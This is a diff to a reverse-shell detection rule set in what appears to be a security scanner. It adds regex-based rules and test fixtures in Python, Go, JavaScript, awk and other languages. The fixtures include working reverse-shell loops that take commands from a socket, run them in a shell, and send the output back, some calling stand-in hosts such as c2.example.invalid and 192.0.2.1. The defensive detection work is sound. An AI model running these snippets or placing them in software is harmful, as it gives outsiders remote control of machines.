@@ -279,22 +279,36 @@ export const reverseShell: RuleSet = {
       id: id('network-orders'),
       severity: 'critical',
       why: 'Reads lines from a network connection and gives them to a shell.',
-      when: near(
-        20,
-        is(
-          ['exec.command(', 'processbuilder(', 'getruntime()', 'command::new('],
-          /(?:exec\.Command|ProcessBuilder|getRuntime\(\)\.exec|Command::new)\(\s{0,6}(?:new String\[\]\s{0,6}\{\s{0,6})?"(?:\/bin\/)?(?:sh|bash|cmd(?:\.exe)?)"(?:\)\.(?:arg|args)\(\s{0,6}&?\[?)?\s{0,6},?\s{0,6}"[-/]c"/,
+      when: any(
+        near(
+          20,
+          is(
+            ['exec.command(', 'processbuilder(', 'getruntime()', 'command::new('],
+            /(?:exec\.Command|ProcessBuilder|getRuntime\(\)\.exec|Command::new)\(\s{0,6}(?:new String\[\]\s{0,6}\{\s{0,6})?"(?:\/bin\/)?(?:sh|bash|cmd(?:\.exe)?)"(?:\)\.(?:arg|args)\(\s{0,6}&?\[?)?\s{0,6},?\s{0,6}"[-/]c"/,
+          ),
+          is(['net.dial', 'new socket(', 'tcpstream::connect', 'net.listen', 'tls.dial', 'serversocket('], null),
+          is(['readstring(', 'newscanner(', '.read(', 'readline(', 'read_line(', 'newreader(', '.lines()'], null),
+          is(['.write(', 'fprint', 'println(', 'write_all(', 'getoutputstream('], null),
         ),
-        is(['net.dial', 'new socket(', 'tcpstream::connect', 'net.listen', 'tls.dial', 'serversocket('], null),
-        is(['readstring(', 'newscanner(', '.read(', 'readline(', 'read_line(', 'newreader(', '.lines()'], null),
-        is(['.write(', 'fprint', 'println(', 'write_all(', 'getoutputstream('], null),
+        near(
+          25,
+          is(['.makefile('], null, { families: ['py'] }),
+          is(['shell=true', 'os.popen(', 'getoutput(', 'os.system('], null, { families: ['py'] }),
+          'socket',
+        ),
       ),
       matches: [
+        py(
+          'link = socket.create_connection((HOST, 443))\nfor line in link.makefile("r"):\n    done = subprocess.run(line, shell=True, capture_output=True)\n    link.sendall(done.stdout)',
+        ),
         go(
           'conn, _ := net.Dial("tcp", "c2.example.invalid:443")\nfor {\n  order, _ := bufio.NewReader(conn).ReadString(10)\n  out, _ := exec.Command("sh", "-c", order).CombinedOutput()\n  conn.Write(out)\n}',
         ),
       ],
-      misses: [go('out, _ := exec.Command("sh", "-c", script).Output()\nfmt.Println(string(out))')],
+      misses: [
+        py('stream = socket.create_connection((HOST, 25)).makefile("rw")\nprint(stream.readline())'),
+        go('out, _ := exec.Command("sh", "-c", script).Output()\nfmt.Println(string(out))'),
+      ],
     },
     {
       id: id('powershell-tcp'),
@@ -318,37 +332,53 @@ export const reverseShell: RuleSet = {
       severity: 'high',
       why: 'Receives text from a socket and runs it as a command, in a loop.',
       when: any(
-        near(
-          6,
-          is([':receive('], null, { families: ['lua'] }),
-          is(['io.popen(', 'os.execute('], null),
-          is(['socket', ':connect('], null),
-        ),
-        near(3, is(['/inet/tcp/'], /["']\/inet\/tcp\//, { before: 1 }), is(['|&'], null), is(['getline'], null)),
-        near(
-          6,
-          is(['.recv('], /\.recv\(\s{0,4}(?:\d{2,6}|\))/),
-          is(
-            ['subprocess', 'os.popen', 'os.system'],
-            /(?:subprocess\.(?:Popen|run|check_output|getoutput|call)|os\.(?:popen|system))\(\s*(?:cmd|command|data|c|d|comando|buf|recv\w*|msg|order|cmnd|\w{1,12}\.decode)\b/,
+        any(
+          near(
+            6,
+            is([':receive('], null, { families: ['lua'] }),
+            is(['io.popen(', 'os.execute('], null),
+            is(['socket', ':connect('], null),
           ),
-          'socket',
+          near(3, is(['/inet/tcp/'], /["']\/inet\/tcp\//, { before: 1 }), is(['|&'], null), is(['getline'], null)),
+          near(
+            6,
+            is(['.recv('], /\.recv\(\s{0,4}(?:\d{2,6}|\))/),
+            is(
+              ['subprocess', 'os.popen', 'os.system'],
+              /(?:subprocess\.(?:Popen|run|check_output|getoutput|call)|os\.(?:popen|system))\(\s*(?:cmd|command|data|c|d|comando|buf|recv\w*|msg|order|cmnd|\w{1,12}\.decode)\b/,
+            ),
+            'socket',
+          ),
+          near(
+            6,
+            is(['.on('], /(?:client|socket|sock|conn|connection|ws|s|c)\.on\(\s*["'](?:data|message)["']\s*,/, {
+              before: 20,
+            }),
+            statement(
+              is(['exec(', 'execsync('], /exec(?:Sync)?\(\s*(?:data|cmd|msg|message|d|command|chunk|buf\w*)\b/),
+            ),
+          ),
+          near(
+            8,
+            is(['gets', 'while'], /(?:sock|s|c|client|conn)\.gets\b/, { before: 8 }),
+            is(['io.popen', '`#{'], /IO\.popen\(\s*\w{1,12}|`#\{/i),
+            is(['tcpsocket'], null),
+          ),
         ),
         near(
-          6,
-          is(['.on('], /(?:client|socket|sock|conn|connection|ws|s|c)\.on\(\s*["'](?:data|message)["']\s*,/, {
-            before: 20,
-          }),
-          statement(is(['exec(', 'execsync('], /exec(?:Sync)?\(\s*(?:data|cmd|msg|message|d|command|chunk|buf\w*)\b/)),
-        ),
-        near(
-          8,
-          is(['gets', 'while'], /(?:sock|s|c|client|conn)\.gets\b/, { before: 8 }),
-          is(['io.popen', '`#{'], /IO\.popen\(\s*\w{1,12}|`#\{/i),
-          is(['tcpsocket'], null),
+          30,
+          is(
+            ['.on('],
+            /\.on\(\s*["'](?:data|message)["']\s*,\s*(?:async\s+)?(?:function\s*)?\(?\s*(\w{1,24})\b[\s\S]{0,240}?(?<![\w$.])(?:child_process\.|cp\.)?exec(?:Sync)?\(\s*(?:String\(\s*)?\1\b/,
+            { families: ['js'] },
+          ),
+          any('socket', is(['websocket', 'socket.io'], null)),
         ),
       ),
       matches: [
+        js(
+          "const { exec } = require('child_process')\nconst line = require('net').connect(443, HOST)\nline.on('data', (bytes) => {\n  exec(bytes.toString(), (error, out) => line.write(out))\n})",
+        ),
         sh(
           `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4242"; while (42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }'`,
         ),
@@ -363,6 +393,9 @@ export const reverseShell: RuleSet = {
         ),
       ],
       misses: [
+        js(
+          "const line = require('net').connect(443, HOST)\nline.on('data', (bytes) => {\n  const found = pattern.exec(bytes)\n})",
+        ),
         py('s = socket.socket()\ndata = s.recv(1024)\nprint(data)'),
         js('socket.on("data", (chunk) => parser.write(chunk))'),
       ],
